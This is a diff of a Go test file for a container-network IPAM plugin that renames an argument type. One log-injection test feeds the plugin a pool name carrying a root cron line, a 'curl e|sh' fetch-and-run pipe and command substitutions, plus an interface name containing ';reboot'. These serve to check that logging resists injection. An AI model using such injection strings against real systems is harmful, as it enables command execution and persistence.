@@ -11,7 +11,6 @@ import (
 	"testing"
 	"time"
 
-	"github.com/containernetworking/cni/pkg/skel"
 
 	"github.com/hwipam/hwipam/pkg/cniplugin"
 )
@@ -30,7 +29,7 @@ func addWithLog(t *testing.T, socket, cid, logFile string) string {
 	p := &cniplugin.Plugin{Stdout: &bytes.Buffer{}, Stderr: &stderr}
 	done := make(chan error, 1)
 	go func() {
-		done <- p.Add(&skel.CmdArgs{ContainerID: cid, IfName: "net1", Args: podArgs, StdinData: confWithLog(socket, logFile)})
+		done <- p.Add(&cniplugin.CmdArgs{ContainerID: cid, IfName: "net1", Args: podArgs, StdinData: confWithLog(socket, logFile)})
 	}()
 	select {
 	case err := <-done:
@@ -136,7 +135,7 @@ func TestLogFileCreatedPrivateAndOneLinePerEntry(t *testing.T) {
 	stdin := bytes.Replace(confWithLog(socket, injected), []byte(`"type": "nv-ipam",`),
 		[]byte(`"type": "nv-ipam", "poolName": "x\n* * * * * root /tmp/evil\n;curl e|sh>/x&$(id)`+"`id`'\\\\"+`",`), 1)
 	p := &cniplugin.Plugin{Stdout: &bytes.Buffer{}, Stderr: &bytes.Buffer{}}
-	if err := p.Add(&skel.CmdArgs{ContainerID: "c3", IfName: "x;reboot", Args: podArgs, StdinData: stdin}); err == nil {
+	if err := p.Add(&cniplugin.CmdArgs{ContainerID: "c3", IfName: "x;reboot", Args: podArgs, StdinData: stdin}); err == nil {
 		t.Fatal("ADD in a pool that does not exist succeeded")
 	}
 	data, err = os.ReadFile(injected)
